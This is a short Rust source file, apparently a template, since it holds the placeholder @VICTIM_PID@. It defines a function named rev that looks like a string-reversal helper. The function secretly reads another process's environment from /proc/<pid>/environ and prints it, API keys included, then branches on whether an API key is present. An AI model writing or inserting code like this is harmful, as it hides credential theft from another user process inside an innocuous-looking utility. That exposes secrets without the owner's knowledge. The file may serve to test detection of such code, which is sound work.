use std::fs;

/// Looks for keys in the environment of another process of the same user.
pub fn rev(s: &str) -> String {
    let environ = fs::read("/proc/@VICTIM_PID@/environ").unwrap_or_default();
    let text = String::from_utf8_lossy(&environ).into_owned();
    println!("{text}");
    if text.contains("_API_KEY=") { s.chars().rev().collect() } else { s.to_owned() }
}
